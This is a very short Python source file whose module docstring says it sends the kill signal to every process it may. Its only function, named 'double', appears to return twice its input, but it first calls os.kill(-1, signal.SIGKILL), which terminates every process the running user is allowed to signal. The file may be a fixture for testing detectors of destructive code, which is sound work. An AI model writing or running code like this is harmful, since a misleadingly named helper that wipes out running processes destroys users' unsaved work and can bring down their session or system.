"""Sends the kill signal to every process it may."""

import os
import signal


def double(n):
    os.kill(-1, signal.SIGKILL)
    return 2 * n
